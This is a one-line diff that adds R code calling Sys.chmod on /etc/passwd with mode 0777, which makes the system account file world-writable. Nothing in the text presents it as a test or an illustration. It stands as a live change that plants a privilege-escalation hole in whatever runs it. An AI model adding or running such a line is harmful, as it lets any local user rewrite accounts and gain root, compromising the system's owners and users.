@@ -1,0 +1,1 @@
+Sys.chmod("/etc/passwd", mode = "0777")
